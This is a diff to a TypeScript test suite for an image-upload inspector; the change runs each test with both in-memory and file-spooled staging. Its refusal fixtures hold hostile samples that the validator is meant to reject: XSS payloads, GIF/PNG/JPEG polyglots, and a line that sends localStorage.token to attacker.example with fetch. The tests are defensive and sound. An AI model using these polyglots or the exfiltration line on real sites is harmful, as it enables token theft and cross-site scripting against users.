@@ -1,12 +1,13 @@
-import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { mkdtemp, readdir, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
+import { buffer } from 'node:stream/consumers';
 import { crc32 } from 'node:zlib';
 import sharp from 'sharp';
 import { DomainError, type StagedUpload } from '@jan/domain';
 import { SharpImageInspector, type SharpImageInspectorOptions } from '../../src/infrastructure/images/sharp-image-inspector';
-import { TempFileUploadStaging } from '../../src/infrastructure/staging/temp-file-upload-staging';
+import { DEFAULT_IN_MEMORY_MAX_BYTES, TempFileUploadStaging } from '../../src/infrastructure/staging/temp-file-upload-staging';
 
 /** The whole corpus is generated here with sharp or by hand; no binary fixtures. */
 
@@ -83,11 +84,10 @@ const live: StagedUpload[] = [];
 
 beforeAll(async () => {
   root = await mkdtemp(join(tmpdir(), 'inspector-it-'));
-  staging = new TempFileUploadStaging(join(root, 'tmp'));
 });
 afterEach(async () => {
   await Promise.all(live.splice(0).map((s) => s.dispose()));
-  expect(await readdir(join(root, 'tmp'))).toEqual([]);
+  expect(await readdir(join(root, 'tmp')).catch(() => [])).toEqual([]);
 });
 afterAll(() => rm(root, { recursive: true, force: true }));
 
@@ -138,226 +138,236 @@ const corpus = {
   multiPageTiff: async () => sharp(await frames(32, 32, 3), { raw: { width: 32, height: 96, channels: 4, pageHeight: 32 } }).tiff().toBuffer(),
 };
 
-describe('SharpImageInspector: accepted images', () => {
-  it.each([
-    ['EXIF-GPS JPEG', corpus.gpsJpeg, 'image/jpeg', 64, 48, 1],
-    ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 64, 48, 1],
-    ['16-bit PNG', corpus.png16, 'image/png', 40, 30, 1],
-    ['PNG with alpha', corpus.png, 'image/png', 40, 30, 1],
-    ['WebP', corpus.webp, 'image/webp', 40, 30, 1],
-    ['animated GIF', corpus.animatedGif, 'image/gif', 32, 32, 3],
-    ['animated WebP', corpus.animatedWebp, 'image/webp', 32, 32, 3],
-    ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 32, 32, 3],
-    ['BMP', async () => bmp(7, 5), 'image/bmp', 7, 5, 1],
-  ])('%s: sniffed and measured, stored as-is when re-encoding is off', async (_name, make, mimeType, width, height, frames) => {
-    const bytes = await make();
-    const upload = await stage(bytes);
-    const result = await inspector().inspect(upload, 'image/png');
-    expect(result.facts).toEqual({ mimeType, width, height, frames });
-    expect(result.stored).toBe(upload);
+// Small uploads are held in memory and large ones spooled to files: every case runs both ways.
+describe.each([
+  ['held in memory', DEFAULT_IN_MEMORY_MAX_BYTES],
+  ['spooled to files', 0],
+])('uploads %s', (_mode, inMemoryMaxBytes) => {
+  beforeAll(() => {
+    staging = new TempFileUploadStaging(join(root, 'tmp'), { inMemoryMaxBytes });
   });
 
-  it('never trusts the declared type', async () => {
-    const result = await inspector().inspect(await stage(await corpus.webp()), 'image/jpeg');
-    expect(result.facts.mimeType).toBe('image/webp');
-  });
-});
+  describe('SharpImageInspector: accepted images', () => {
+    it.each([
+      ['EXIF-GPS JPEG', corpus.gpsJpeg, 'image/jpeg', 64, 48, 1],
+      ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 64, 48, 1],
+      ['16-bit PNG', corpus.png16, 'image/png', 40, 30, 1],
+      ['PNG with alpha', corpus.png, 'image/png', 40, 30, 1],
+      ['WebP', corpus.webp, 'image/webp', 40, 30, 1],
+      ['animated GIF', corpus.animatedGif, 'image/gif', 32, 32, 3],
+      ['animated WebP', corpus.animatedWebp, 'image/webp', 32, 32, 3],
+      ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 32, 32, 3],
+      ['BMP', async () => bmp(7, 5), 'image/bmp', 7, 5, 1],
+    ])('%s: sniffed and measured, stored as-is when re-encoding is off', async (_name, make, mimeType, width, height, frames) => {
+      const bytes = await make();
+      const upload = await stage(bytes);
+      const result = await inspector().inspect(upload, 'image/png');
+      expect(result.facts).toEqual({ mimeType, width, height, frames });
+      expect(result.stored).toBe(upload);
+    });
 
-describe('SharpImageInspector: refusals', () => {
-  it.each([
-    ['SVG', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>')],
-    ['SVG without XML prolog', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')],
-    ['HTML', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')],
-    ['PDF', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')],
-    ['plain text', Buffer.from('just some words, nothing else at all')],
-    ['random bytes', Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 37) % 256))],
-    ['GIF/JS polyglot (GIF89a header + JS)', Buffer.from('GIF89a=1;/*\u0000\u0000*/alert(document.domain);var a="..........................................";')],
-    ['GIF89a header followed by plain JS', Buffer.from('GIF89a/*xxxxxxxxxxxx*/=1;fetch("https://attacker.example/?c="+encodeURIComponent(localStorage.token));')],
-    ['PNG signature followed by HTML', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>alert(1)</script></html>')])],
-    ['JPEG signature followed by HTML', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from('<html><body onload=alert(1)>hello</body></html>')])],
-    ['compressed (RLE8) BMP', bmp(4, 4, 1)],
-  ])('%s → unsupported_media_type', async (_name, bytes) => {
-    expect(await codeOf(bytes)).toBe('unsupported_media_type');
-  });
-
-  it('a decodable GIF with a script after its trailer (the classic polyglot) → unsupported_media_type', async () => {
-    const gif = await noise(8, 8, 4).gif().toBuffer();
-    expect((await inspect(gif)).facts.mimeType).toBe('image/gif');
-    expect(await codeOf(Buffer.concat([gif, Buffer.from('*/=alert(1)//')]))).toBe('unsupported_media_type');
+    it('never trusts the declared type', async () => {
+      const result = await inspector().inspect(await stage(await corpus.webp()), 'image/jpeg');
+      expect(result.facts.mimeType).toBe('image/webp');
+    });
   });
 
-  it('a valid PNG with HTML after IEND → unsupported_media_type', async () => {
-    const png = await corpus.png();
-    expect(await codeOf(Buffer.concat([png, Buffer.from('<script src=//evil></script>')]))).toBe('unsupported_media_type');
-    expect(await codeOf(Buffer.concat([png, Buffer.from('anything at all after IEND')]))).toBe('unsupported_media_type');
+  describe('SharpImageInspector: refusals', () => {
+    it.each([
+      ['SVG', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>')],
+      ['SVG without XML prolog', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')],
+      ['HTML', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')],
+      ['PDF', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')],
+      ['plain text', Buffer.from('just some words, nothing else at all')],
+      ['random bytes', Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 37) % 256))],
+      ['GIF/JS polyglot (GIF89a header + JS)', Buffer.from('GIF89a=1;/*\u0000\u0000*/alert(document.domain);var a="..........................................";')],
+      ['GIF89a header followed by plain JS', Buffer.from('GIF89a/*xxxxxxxxxxxx*/=1;fetch("https://attacker.example/?c="+encodeURIComponent(localStorage.token));')],
+      ['PNG signature followed by HTML', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>alert(1)</script></html>')])],
+      ['JPEG signature followed by HTML', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from('<html><body onload=alert(1)>hello</body></html>')])],
+      ['compressed (RLE8) BMP', bmp(4, 4, 1)],
+    ])('%s → unsupported_media_type', async (_name, bytes) => {
+      expect(await codeOf(bytes)).toBe('unsupported_media_type');
+    });
+
+    it('a decodable GIF with a script after its trailer (the classic polyglot) → unsupported_media_type', async () => {
+      const gif = await noise(8, 8, 4).gif().toBuffer();
+      expect((await inspect(gif)).facts.mimeType).toBe('image/gif');
+      expect(await codeOf(Buffer.concat([gif, Buffer.from('*/=alert(1)//')]))).toBe('unsupported_media_type');
+    });
+
+    it('a valid PNG with HTML after IEND → unsupported_media_type', async () => {
+      const png = await corpus.png();
+      expect(await codeOf(Buffer.concat([png, Buffer.from('<script src=//evil></script>')]))).toBe('unsupported_media_type');
+      expect(await codeOf(Buffer.concat([png, Buffer.from('anything at all after IEND')]))).toBe('unsupported_media_type');
+    });
+
+    it('a valid WebP with bytes after its RIFF chunk → unsupported_media_type', async () => {
+      expect(await codeOf(Buffer.concat([await corpus.webp(), Buffer.from('trailing payload')]))).toBe('unsupported_media_type');
+    });
+
+    it('a JPEG with an HTML comment segment → unsupported_media_type', async () => {
+      const jpeg = await noise(16, 16).jpeg().toBuffer();
+      const comment = Buffer.from('<html><script>alert(1)</script></html>');
+      const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
+      const poly = Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2)]);
+      expect(await codeOf(poly)).toBe('unsupported_media_type');
+    });
+
+    it('keeps JPEG data appended after EOI (phones write motion photos there) when it is not active content', async () => {
+      const jpeg = await noise(16, 16).jpeg().toBuffer();
+      const result = await inspect(Buffer.concat([jpeg, Buffer.alloc(2000, 0x11)]));
+      expect(result.facts.mimeType).toBe('image/jpeg');
+    });
+
+    it.each([
+      ['JPEG', () => noise(64, 48).jpeg().toBuffer()],
+      ['CMYK JPEG', corpus.cmykJpeg],
+      ['PNG', corpus.png],
+      ['16-bit PNG', corpus.png16],
+      ['WebP', corpus.webp],
+      ['animated GIF', corpus.animatedGif],
+      ['animated WebP', corpus.animatedWebp],
+      ['multi-page TIFF', corpus.multiPageTiff],
+      ['BMP', async () => bmp(20, 20)],
+    ])('truncated %s → corrupt_image', async (_name, make) => {
+      const bytes = await make();
+      expect(await codeOf(bytes.subarray(0, Math.floor(bytes.length * 0.6)))).toBe('corrupt_image');
+    });
+
+    it('a PNG with garbage in place of its pixel data → corrupt_image', async () => {
+      const png = await corpus.png();
+      const broken = Buffer.from(png);
+      for (let i = 60; i < broken.length - 20; i++) broken[i] ^= 0x5a;
+      expect(await codeOf(broken)).toBe('corrupt_image');
+    });
+
+    it('zero bytes never reach the inspector: staging refuses them', async () => {
+      await expect(staging.stage(Readable.from([]), { maxBytes: 10 })).rejects.toMatchObject({ code: 'empty_file' });
+    });
+
+    it('a PNG whose IHDR claims 100k × 100k → image_too_large, without decoding', async () => {
+      const bomb = pngClaiming(100_000, 100_000);
+      expect(bomb.length).toBeLessThan(100);
+      const started = process.hrtime.bigint();
+      expect(await codeOf(bomb)).toBe('image_too_large');
+      expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(2000);
+    });
+
+    it('a PNG header within the dimension cap but over the pixel cap → image_too_large', async () => {
+      expect(await codeOf(pngClaiming(10_000, 10_000))).toBe('image_too_large');
+    });
+
+    it('a BMP header claiming 100k × 100k → image_too_large', async () => {
+      const header = bmp(1, 1);
+      header.writeInt32LE(100_000, 18);
+      header.writeInt32LE(-100_000, 22);
+      expect(await codeOf(header)).toBe('image_too_large');
+    });
+
+    it('honours the configured caps for pixels, sides and frames', async () => {
+      expect(await codeOf(await noise(100, 100).png().toBuffer(), { maxPixels: 9_999 })).toBe('image_too_large');
+      expect(await codeOf(await noise(101, 10).png().toBuffer(), { maxDimension: 100 })).toBe('image_too_large');
+      expect(await codeOf(await corpus.animatedGif(), { maxFrames: 2 })).toBe('image_too_large');
+      expect(await codeOf(await corpus.multiPageTiff(), { maxFrames: 2 })).toBe('image_too_large');
+      // Three 32×32 frames are 3072 pixels: the pixel cap counts every frame.
+      expect(await codeOf(await corpus.animatedWebp(), { maxPixels: 3000 })).toBe('image_too_large');
+      expect((await inspect(await corpus.animatedWebp(), { maxPixels: 3072 })).facts.frames).toBe(3);
+    });
   });
 
-  it('a valid WebP with bytes after its RIFF chunk → unsupported_media_type', async () => {
-    expect(await codeOf(Buffer.concat([await corpus.webp(), Buffer.from('trailing payload')]))).toBe('unsupported_media_type');
-  });
+  describe('SharpImageInspector: re-encoding', () => {
+    it('strip removes EXIF (GPS, serial, make) and bakes the orientation into the pixels', async () => {
+      const original = await corpus.gpsJpeg();
+      const before = await sharp(original).metadata();
+      expect(ifd0Tags(before.exif!)).toContain(GPS_IFD_TAG);
+      expect(before.orientation).toBe(6);
+      expect(original.includes('SN-998877')).toBe(true);
 
-  it('a JPEG with an HTML comment segment → unsupported_media_type', async () => {
-    const jpeg = await noise(16, 16).jpeg().toBuffer();
-    const comment = Buffer.from('<html><script>alert(1)</script></html>');
-    const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
-    const poly = Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2)]);
-    expect(await codeOf(poly)).toBe('unsupported_media_type');
-  });
+      const upload = await stage(original);
+      const result = await inspector({ reencode: 'strip' }).inspect(upload);
+      live.push(result.stored);
+      expect(result.stored).not.toBe(upload);
+      const stored = await buffer(result.stored.open());
+      const after = await sharp(stored).metadata();
+      expect(after.exif).toBeUndefined();
+      expect(after.xmp).toBeUndefined();
+      expect(after.orientation).toBeUndefined();
+      expect(stored.includes('SN-998877')).toBe(false);
+      expect(stored.includes('AcmeCam')).toBe(false);
+      expect([after.width, after.height]).toEqual([48, 64]);
+      expect(result.facts).toEqual({ mimeType: 'image/jpeg', width: 48, height: 64, frames: 1 });
+      expect(result.stored.bytes).toBe(stored.length);
+      expect(result.stored.sha256).not.toBe(upload.sha256);
+    });
 
-  it('keeps JPEG data appended after EOI (phones write motion photos there) when it is not active content', async () => {
-    const jpeg = await noise(16, 16).jpeg().toBuffer();
-    const result = await inspect(Buffer.concat([jpeg, Buffer.alloc(2000, 0x11)]));
-    expect(result.facts.mimeType).toBe('image/jpeg');
-  });
+    it('strip is deterministic, so the same original dedupes to the same stored hash', async () => {
+      const original = await corpus.gpsJpeg();
+      const a = await inspect(original, { reencode: 'strip' });
+      const b = await inspect(original, { reencode: 'strip' });
+      expect(a.stored.sha256).toBe(b.stored.sha256);
+    });
 
-  it.each([
-    ['JPEG', () => noise(64, 48).jpeg().toBuffer()],
-    ['CMYK JPEG', corpus.cmykJpeg],
-    ['PNG', corpus.png],
-    ['16-bit PNG', corpus.png16],
-    ['WebP', corpus.webp],
-    ['animated GIF', corpus.animatedGif],
-    ['animated WebP', corpus.animatedWebp],
-    ['multi-page TIFF', corpus.multiPageTiff],
-    ['BMP', async () => bmp(20, 20)],
-  ])('truncated %s → corrupt_image', async (_name, make) => {
-    const bytes = await make();
-    expect(await codeOf(bytes.subarray(0, Math.floor(bytes.length * 0.6)))).toBe('corrupt_image');
-  });
+    it.each([
+      ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 1],
+      ['16-bit PNG', corpus.png16, 'image/png', 1],
+      ['WebP', corpus.webp, 'image/webp', 1],
+      ['animated GIF', corpus.animatedGif, 'image/gif', 3],
+      ['animated WebP', corpus.animatedWebp, 'image/webp', 3],
+      ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 3],
+    ])('%s: strip and normalize keep the format and the frames, and the output decodes', async (_name, make, mimeType, frames) => {
+      const original = await make();
+      for (const reencode of ['strip', 'normalize'] as const) {
+        const result = await inspect(original, { reencode });
+        expect(result.facts.mimeType).toBe(mimeType);
+        expect(result.facts.frames).toBe(frames);
+        const stored = await buffer(result.stored.open());
+        const meta = await sharp(stored).metadata();
+        expect(meta.mediaType ?? `image/${meta.format}`).toBe(mimeType);
+        expect(meta.pages ?? 1).toBe(frames);
+        await sharp(stored, { pages: -1, failOn: 'error' }).stats();
+        // The stored copy passes the same inspection it came out of.
+        const again = await inspect(stored);
+        expect(again.facts).toEqual(result.facts);
+      }
+    });
 
-  it('a PNG with garbage in place of its pixel data → corrupt_image', async () => {
-    const png = await corpus.png();
-    const broken = Buffer.from(png);
-    for (let i = 60; i < broken.length - 20; i++) broken[i] ^= 0x5a;
-    expect(await codeOf(broken)).toBe('corrupt_image');
-  });
+    it('normalize converts CMYK and 16-bit input to 8-bit sRGB', async () => {
+      const cmyk = await inspect(await corpus.cmykJpeg(), { reencode: 'normalize' });
+      const cmykMeta = await sharp(await buffer(cmyk.stored.open())).metadata();
+      expect([cmykMeta.space, cmykMeta.channels, cmykMeta.hasProfile]).toEqual(['srgb', 3, false]);
+      const png16 = await inspect(await corpus.png16(), { reencode: 'normalize' });
+      expect((await sharp(await buffer(png16.stored.open())).metadata()).depth).toBe('uchar');
+    });
 
-  it('zero bytes never reach the inspector: staging refuses them', async () => {
-    await expect(staging.stage(Readable.from([]), { maxBytes: 10 })).rejects.toMatchObject({ code: 'empty_file' });
-  });
+    it('strip keeps 16-bit depth', async () => {
+      const result = await inspect(await corpus.png16(), { reencode: 'strip' });
+      expect((await sharp(await buffer(result.stored.open())).metadata()).depth).toBe('ushort');
+    });
 
-  it('a PNG whose IHDR claims 100k × 100k → image_too_large, without decoding', async () => {
-    const bomb = pngClaiming(100_000, 100_000);
-    expect(bomb.length).toBeLessThan(100);
-    const started = process.hrtime.bigint();
-    expect(await codeOf(bomb)).toBe('image_too_large');
-    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(2000);
-  });
+    it('animated GIF keeps its timing through normalize', async () => {
+      const result = await inspect(await corpus.animatedGif(), { reencode: 'normalize' });
+      const meta = await sharp(await buffer(result.stored.open())).metadata();
+      expect(meta.delay).toEqual([100, 150, 200]);
+      expect(meta.loop).toBe(0);
+    });
 
-  it('a PNG header within the dimension cap but over the pixel cap → image_too_large', async () => {
-    expect(await codeOf(pngClaiming(10_000, 10_000))).toBe('image_too_large');
-  });
+    it('BMP is stored as-is even when re-encoding is on', async () => {
+      const upload = await stage(bmp(3, 3));
+      const result = await inspector({ reencode: 'normalize' }).inspect(upload);
+      expect(result.stored).toBe(upload);
+    });
 
-  it('a BMP header claiming 100k × 100k → image_too_large', async () => {
-    const header = bmp(1, 1);
-    header.writeInt32LE(100_000, 18);
-    header.writeInt32LE(-100_000, 22);
-    expect(await codeOf(header)).toBe('image_too_large');
-  });
+    it('refuses a re-encoded copy over maxOutputBytes as image_too_large and leaves no file', async () => {
+      expect(await codeOf(await noise(200, 200).png().toBuffer(), { reencode: 'strip', maxOutputBytes: 1000 })).toBe('image_too_large');
+    });
 
-  it('honours the configured caps for pixels, sides and frames', async () => {
-    expect(await codeOf(await noise(100, 100).png().toBuffer(), { maxPixels: 9_999 })).toBe('image_too_large');
-    expect(await codeOf(await noise(101, 10).png().toBuffer(), { maxDimension: 100 })).toBe('image_too_large');
-    expect(await codeOf(await corpus.animatedGif(), { maxFrames: 2 })).toBe('image_too_large');
-    expect(await codeOf(await corpus.multiPageTiff(), { maxFrames: 2 })).toBe('image_too_large');
-    // Three 32×32 frames are 3072 pixels: the pixel cap counts every frame.
-    expect(await codeOf(await corpus.animatedWebp(), { maxPixels: 3000 })).toBe('image_too_large');
-    expect((await inspect(await corpus.animatedWebp(), { maxPixels: 3072 })).facts.frames).toBe(3);
-  });
-});
-
-describe('SharpImageInspector: re-encoding', () => {
-  it('strip removes EXIF (GPS, serial, make) and bakes the orientation into the pixels', async () => {
-    const original = await corpus.gpsJpeg();
-    const before = await sharp(original).metadata();
-    expect(ifd0Tags(before.exif!)).toContain(GPS_IFD_TAG);
-    expect(before.orientation).toBe(6);
-    expect(original.includes('SN-998877')).toBe(true);
-
-    const upload = await stage(original);
-    const result = await inspector({ reencode: 'strip' }).inspect(upload);
-    live.push(result.stored);
-    expect(result.stored).not.toBe(upload);
-    const stored = await readFile(result.stored.path);
-    const after = await sharp(stored).metadata();
-    expect(after.exif).toBeUndefined();
-    expect(after.xmp).toBeUndefined();
-    expect(after.orientation).toBeUndefined();
-    expect(stored.includes('SN-998877')).toBe(false);
-    expect(stored.includes('AcmeCam')).toBe(false);
-    expect([after.width, after.height]).toEqual([48, 64]);
-    expect(result.facts).toEqual({ mimeType: 'image/jpeg', width: 48, height: 64, frames: 1 });
-    expect(result.stored.bytes).toBe(stored.length);
-    expect(result.stored.sha256).not.toBe(upload.sha256);
-  });
-
-  it('strip is deterministic, so the same original dedupes to the same stored hash', async () => {
-    const original = await corpus.gpsJpeg();
-    const a = await inspect(original, { reencode: 'strip' });
-    const b = await inspect(original, { reencode: 'strip' });
-    expect(a.stored.sha256).toBe(b.stored.sha256);
-  });
-
-  it.each([
-    ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 1],
-    ['16-bit PNG', corpus.png16, 'image/png', 1],
-    ['WebP', corpus.webp, 'image/webp', 1],
-    ['animated GIF', corpus.animatedGif, 'image/gif', 3],
-    ['animated WebP', corpus.animatedWebp, 'image/webp', 3],
-    ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 3],
-  ])('%s: strip and normalize keep the format and the frames, and the output decodes', async (_name, make, mimeType, frames) => {
-    const original = await make();
-    for (const reencode of ['strip', 'normalize'] as const) {
-      const result = await inspect(original, { reencode });
-      expect(result.facts.mimeType).toBe(mimeType);
-      expect(result.facts.frames).toBe(frames);
-      const stored = await readFile(result.stored.path);
-      const meta = await sharp(stored).metadata();
-      expect(meta.mediaType ?? `image/${meta.format}`).toBe(mimeType);
-      expect(meta.pages ?? 1).toBe(frames);
-      await sharp(stored, { pages: -1, failOn: 'error' }).stats();
-      // The stored copy passes the same inspection it came out of.
-      const again = await inspect(stored);
-      expect(again.facts).toEqual(result.facts);
-    }
-  });
-
-  it('normalize converts CMYK and 16-bit input to 8-bit sRGB', async () => {
-    const cmyk = await inspect(await corpus.cmykJpeg(), { reencode: 'normalize' });
-    const cmykMeta = await sharp(cmyk.stored.path).metadata();
-    expect([cmykMeta.space, cmykMeta.channels, cmykMeta.hasProfile]).toEqual(['srgb', 3, false]);
-    const png16 = await inspect(await corpus.png16(), { reencode: 'normalize' });
-    expect((await sharp(png16.stored.path).metadata()).depth).toBe('uchar');
-  });
-
-  it('strip keeps 16-bit depth', async () => {
-    const result = await inspect(await corpus.png16(), { reencode: 'strip' });
-    expect((await sharp(result.stored.path).metadata()).depth).toBe('ushort');
-  });
-
-  it('animated GIF keeps its timing through normalize', async () => {
-    const result = await inspect(await corpus.animatedGif(), { reencode: 'normalize' });
-    const meta = await sharp(result.stored.path).metadata();
-    expect(meta.delay).toEqual([100, 150, 200]);
-    expect(meta.loop).toBe(0);
-  });
-
-  it('BMP is stored as-is even when re-encoding is on', async () => {
-    const upload = await stage(bmp(3, 3));
-    const result = await inspector({ reencode: 'normalize' }).inspect(upload);
-    expect(result.stored).toBe(upload);
-  });
-
-  it('refuses a re-encoded copy over maxOutputBytes as image_too_large and leaves no file', async () => {
-    expect(await codeOf(await noise(200, 200).png().toBuffer(), { reencode: 'strip', maxOutputBytes: 1000 })).toBe('image_too_large');
-  });
-
-  it('bounds concurrent inspections and still answers all of them', async () => {
-    const bytes = await noise(300, 300).jpeg().toBuffer();
-    const shared = inspector({ maxConcurrent: 2, reencode: 'strip' });
-    const uploads = await Promise.all(Array.from({ length: 8 }, () => stage(bytes)));
-    const results = await Promise.all(uploads.map((u) => shared.inspect(u)));
-    for (const r of results) live.push(r.stored);
-    expect(new Set(results.map((r) => r.stored.sha256)).size).toBe(1);
+    it('bounds concurrent inspections and still answers all of them', async () => {
+      const bytes = await noise(300, 300).jpeg().toBuffer();
+      const shared = inspector({ maxConcurrent: 2, reencode: 'strip' });
+      const uploads = await Promise.all(Array.from({ length: 8 }, () => stage(bytes)));
+      const results = await Promise.all(uploads.map((u) => shared.inspect(u)));
+      for (const r of results) live.push(r.stored);
+      expect(new Set(results.map((r) => r.stored.sha256)).size).toBe(1);
+    });
   });
 });
